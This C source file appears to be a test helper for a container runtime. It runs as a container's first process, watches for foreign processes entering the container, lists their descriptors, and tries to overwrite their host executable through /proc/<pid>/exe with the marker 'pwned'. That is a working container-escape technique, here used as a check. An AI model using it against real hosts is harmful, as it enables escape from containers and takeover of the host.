/* The first process of a container that looks at every other one as it comes: `watcher` prints what it can see of those
 * whose program is not one of the container's own files, and writes into their program, if it can. It says "ready" first,
 * and ends when it is killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/vfs.h>
#include <unistd.h>

#define MAX_KEPT 64

static int kept[MAX_KEPT], kept_count;

/* From now on nobody may run what could be written: the descriptor is kept and tried again. */
static void keep_program(int pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && kept_count < MAX_KEPT)
        kept[kept_count++] = fd;
    else if (fd >= 0)
        close(fd);
}

static void write_into_kept(void)
{
    char path[64];
    for (int i = 0; i < kept_count; i++) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY);
        if (fd < 0 && errno == ETXTBSY)
            continue;
        if (fd >= 0 && write(fd, "pwned", 5) == 5)
            printf("wrote into the program\n");
        if (fd >= 0)
            close(fd);
        close(kept[i]);
        kept[i--] = kept[--kept_count];
    }
}

static void show_descriptors(int pid)
{
    char path[96], target[256];
    for (int fd = 0; fd < 64; fd++) {
        struct statfs system;
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
        ssize_t length = readlink(path, target, sizeof(target) - 1);
        if (length < 0)
            continue;
        target[length] = 0;
        long kind = statfs(path, &system) == 0 ? (long)system.f_type : 0;
        printf("descriptor %s of type %lx\n", target, kind);
    }
}

static void look_at(int pid)
{
    char path[64], program[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t length = readlink(path, program, sizeof(program) - 1);
    if (length <= 0)
        return;
    program[length] = 0;
    if (strcmp(program, "/bin/busybox") == 0 || strcmp(program, "/watcher") == 0)
        return;
    printf("program %s\n", program);
    keep_program(pid);
    show_descriptors(pid);
}

int main(void)
{
    printf("ready\n");
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc)))
            if (atoi(entry->d_name) > 1)
                look_at(atoi(entry->d_name));
        closedir(proc);
        write_into_kept();
        fflush(stdout);
    }
}
